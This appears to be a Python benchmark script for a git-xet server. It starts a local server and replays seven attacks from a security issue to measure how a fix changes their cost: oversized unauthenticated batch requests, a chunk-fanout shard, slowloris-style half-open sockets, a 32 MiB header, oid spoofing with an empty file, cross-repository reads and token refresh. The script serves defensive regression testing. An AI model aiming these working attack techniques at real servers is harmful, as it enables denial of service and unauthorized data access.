"""What the attacks of issue 12 cost a `git xet serve` process, before and after a change.

    python bench/attack_costs.py [--source DIR] [--json OUT]

Starts `git xet serve` on 127.0.0.1 (from the git-xet source tree DIR when given, e.g. an
older checkout extracted with `git archive <rev> git_xet | tar -x -C DIR`, else the installed
one), runs each attack once and prints what it cost the server or what it achieved:

- batch40:   4 strangers POST 40 MiB batch requests (valid JSON, 500k objects) to the LFS batch
             route without credentials: peak RSS, statuses, and the slowest /health meanwhile
- fanout:    a ~75 KiB shard naming one 8192-chunk xorb 780 times (6.4M chunk references, under
             the absolute per-shard cap of 8M): server CPU s, RSS growth, status
- halfopen:  N sockets (--halfopen, default 300) that never finish their headers: whether
             /health answers within 10 s, and how many of them the server has closed 15 s later
- header:    a 32 MiB header: status (0 = connection reset) and server RSS growth
- emptyoid:  the empty file registered under another file's sha256: does the batch API then
             say that file is already stored?
- crossrepo: a token of repo B asks for repo A's file: reconstruction status
- casrefresh: a CAS token asks the token route for a new one: status
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from urllib.parse import urlsplit

from common import MIB, ROOT, write_json  # noqa: F401  (common puts the repo on sys.path)

import httpx

from git_xet.core import hashes, shard, xorb
from git_xet.core.http_headers import bearer
from git_xet.pipelines.file_hashing import hash_bytes


class Server:
    def __init__(self, data: Path, env: dict[str, str]) -> None:
        self.data, self.env = data, env
        data.parent.mkdir(parents=True, exist_ok=True)
        with open(data.parent / "server.log", "ab") as log:  # the server keeps its own copy of the fd
            self.proc = subprocess.Popen(
                [sys.executable, "-m", "git_xet", "serve", "--data", str(data), "--port", "0"],
                stdout=subprocess.PIPE, stderr=log, env=env,
            )  # fmt: skip
        self.url = self.proc.stdout.readline().decode().strip()
        for _ in range(300):
            try:
                if httpx.get(self.url + "/health", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                time.sleep(0.05)

    def token(self, repo: str, scope: str = "write") -> str:
        out = subprocess.run(
            [sys.executable, "-m", "git_xet", "token", "--data", str(self.data), "--scope", scope, "--repo", repo, "--json"],
            capture_output=True, text=True, check=True, env=self.env,
        )  # fmt: skip
        return json.loads(out.stdout)["accessToken"]

    def _proc(self, name: str) -> str:
        return Path(f"/proc/{self.proc.pid}/{name}").read_text()

    def rss(self) -> int:
        return int(next(x for x in self._proc("status").splitlines() if x.startswith("VmRSS:")).split()[1]) * 1024

    def cpu(self) -> float:
        fields = self._proc("stat").rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(timeout=20)


class PeakRss:
    """The server's peak RSS while the block runs, sampled every 10 ms from another thread."""

    def __init__(self, srv: Server) -> None:
        self.srv, self.value, self._stop = srv, srv.rss(), threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self._stop.wait(0.01):
            self.value = max(self.value, self.srv.rss())

    def __enter__(self) -> PeakRss:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()


def _send(url: str, head: bytes, pieces: int, piece: bytes, tail: bytes = b"") -> int:
    """Send head, `pieces` times `piece`, then tail, as far as the server lets us: its status (0: reset)."""
    parts = urlsplit(url)
    with socket.create_connection((parts.hostname, parts.port), timeout=60) as sock:
        sock.sendall(head)
        try:
            for _ in range(pieces):
                sock.sendall(piece)
            sock.sendall(tail)
        except OSError:
            pass
        try:
            line = sock.recv(4096).split(b"\r\n", 1)[0]
            return int(line.split()[1]) if line else 0
        except (OSError, IndexError, ValueError):
            return 0


def batch40(srv: Server) -> dict:
    entry = b'{"oid":"' + b"a" * 64 + b'","size":1},'
    per_piece = 65536 // len(entry)
    pieces = 40 * MIB // (per_piece * len(entry))
    prefix, suffix = b'{"operation":"download","objects":[', b'{"oid":"' + b"a" * 64 + b'","size":1}]}'
    size = len(prefix) + pieces * per_piece * len(entry) + len(suffix)
    head = f"POST /acme/model.git/info/lfs/objects/batch HTTP/1.1\r\nHost: x\r\nContent-Length: {size}\r\n\r\n".encode() + prefix
    statuses: list[int] = []
    threads = [threading.Thread(target=lambda: statuses.append(_send(srv.url, head, pieces, entry * per_piece, suffix))) for _ in range(4)]
    with PeakRss(srv) as peak:
        for t in threads:
            t.start()
        slowest = 0.0
        while any(t.is_alive() for t in threads):
            start = time.perf_counter()
            httpx.get(srv.url + "/health", timeout=60)
            slowest = max(slowest, time.perf_counter() - start)
            time.sleep(0.05)
    return {"statuses": sorted(statuses), "peak_rss_mib": round(peak.value / MIB), "slowest_health_s": round(slowest, 2)}


def fanout(srv: Server) -> dict:
    token = srv.token("acme/fanout")
    builder = xorb.XorbBuilder()
    for i in range(8192):
        piece = i.to_bytes(4, "little")
        builder.add(piece, hashes.chunk_hash(piece))
    built = builder.build()
    httpx.post(f"{srv.url}/v1/xorbs/default/{hashes.hash_to_hex(built.xorb_hash)}", content=built.body, headers=bearer(token), timeout=60)
    term = shard.FileTerm(built.xorb_hash, sum(built.chunk_sizes), 0, 8192)
    info = shard.FileInfo(bytes(range(32)), (term,) * 780, (hashes.verification_hash(built.chunk_hashes),) * 780, None)
    body = shard.serialize_shard(shard.Shard((info,)), with_footer=False)
    cpu, rss = srv.cpu(), srv.rss()
    with PeakRss(srv) as peak:
        status = httpx.post(f"{srv.url}/v1/shards", content=body, headers=bearer(token), timeout=600).status_code
    return {"shard_kib": len(body) // 1024, "status": status, "cpu_s": round(srv.cpu() - cpu, 2), "rss_growth_mib": round((peak.value - rss) / MIB)}


HALF_OPEN = 300


def halfopen(srv: Server) -> dict:
    parts = urlsplit(srv.url)
    socks = []
    for _ in range(HALF_OPEN):
        sock = socket.create_connection((parts.hostname, parts.port), timeout=30)
        sock.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        socks.append(sock)
    try:
        start = time.perf_counter()
        ok = httpx.get(srv.url + "/health", timeout=10).status_code == 200
        result = {"health_ok": ok, "health_s": round(time.perf_counter() - start, 2)}
    except httpx.TransportError as exc:
        result = {"health_ok": False, "error": type(exc).__name__}
    time.sleep(15)
    closed = 0
    for sock in socks:
        sock.setblocking(False)
        try:
            data = sock.recv(1024)
            closed += data == b"" or data.startswith(b"HTTP/1.1 408")
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        sock.close()
    return result | {"sockets": HALF_OPEN, "closed_by_server_after_15s": closed}


def header(srv: Server) -> dict:
    rss = srv.rss()
    with PeakRss(srv) as peak:
        status = _send(srv.url, b"GET /health HTTP/1.1\r\nHost: x\r\nX-Big: ", 512, b"a" * 65536)
    return {"status": status, "rss_growth_mib": round((peak.value - rss) / MIB)}


def _upload(srv: Server, token: str, data: bytes, sha256: bytes | None) -> int:
    digest = hash_bytes(data)
    builder = xorb.XorbBuilder()
    pos = 0
    for size, chunk in zip(digest.chunk_sizes, digest.chunk_hashes):
        builder.add(data[pos : pos + size], chunk)
        pos += size
    built = builder.build()
    httpx.post(f"{srv.url}/v1/xorbs/default/{hashes.hash_to_hex(built.xorb_hash)}", content=built.body, headers=bearer(token), timeout=60)
    term = shard.FileTerm(built.xorb_hash, len(data), 0, len(built.chunk_hashes))
    info = shard.FileInfo(digest.file_hash, (term,) if data else (), (hashes.verification_hash(built.chunk_hashes),) if data else (), sha256)
    body = shard.serialize_shard(shard.Shard((info,)), with_footer=False)
    return httpx.post(f"{srv.url}/v1/shards", content=body, headers=bearer(token), timeout=60).status_code


def emptyoid(srv: Server) -> dict:
    repo = "acme/model"
    token = srv.token(repo)
    victim = os.urandom(100_000)
    oid = hashlib.sha256(victim).hexdigest()
    info = shard.FileInfo(bytes(32), (), (), hashlib.sha256(victim).digest())
    body = shard.serialize_shard(shard.Shard((info,)), with_footer=False)
    status = httpx.post(f"{srv.url}/v1/shards", content=body, headers=bearer(token), timeout=60).status_code
    answer = httpx.post(
        f"{srv.url}/{repo}.git/info/lfs/objects/batch",
        json={"operation": "upload", "transfers": ["xet"], "objects": [{"oid": oid, "size": len(victim)}]},
        headers=bearer(token), timeout=60,
    ).json()  # fmt: skip
    return {"shard_status": status, "victim_told_already_stored": "actions" not in answer["objects"][0]}


def crossrepo(srv: Server) -> dict:
    data = os.urandom(100_000)
    _upload(srv, srv.token("team-a/private"), data, hashlib.sha256(data).digest())
    file_hex = hashes.hash_to_hex(hash_bytes(data).file_hash)
    status = httpx.get(f"{srv.url}/v1/reconstructions/{file_hex}", headers=bearer(srv.token("team-b/other", "read")), timeout=60).status_code
    return {"reconstruction_status": status}


def casrefresh(srv: Server) -> dict:
    repo = "acme/model"
    user = srv.token(repo)
    cas = httpx.get(f"{srv.url}/api/models/{repo}/xet-write-token/main", headers=bearer(user), timeout=60).json()["accessToken"]
    return {"status": httpx.get(f"{srv.url}/api/models/{repo}/xet-write-token/main", headers=bearer(cas), timeout=60).status_code}


ATTACKS = {f.__name__: f for f in (batch40, fanout, halfopen, header, emptyoid, crossrepo, casrefresh)}


def main() -> int:
    global HALF_OPEN
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--source", type=Path, help="run the server and token commands from this git-xet source tree")
    parser.add_argument("--halfopen", type=int, default=HALF_OPEN, help="sockets for the half-open attack")
    parser.add_argument("--json", type=Path, help="also write the results as JSON here")
    args = parser.parse_args()
    HALF_OPEN = args.halfopen
    env = dict(os.environ)
    if args.source:
        env["PYTHONPATH"] = str(args.source.resolve())
    results = {}
    with tempfile.TemporaryDirectory(prefix="git-xet-attacks-") as tmp:
        for name, attack in ATTACKS.items():
            srv = Server(Path(tmp) / name / "data", env)  # a fresh server per attack: no attack sees another's damage
            try:
                results[name] = attack(srv)
            except Exception as exc:  # noqa: BLE001 - an attack may break the old server; report it
                results[name] = {"error": f"{type(exc).__name__}: {exc}"[:200]}
            finally:
                srv.stop()
            print(f"{name:10s} {json.dumps(results[name])}", flush=True)
    if args.json:
        write_json(args.json, results)
    return 0


if __name__ == "__main__":
    sys.exit(main())
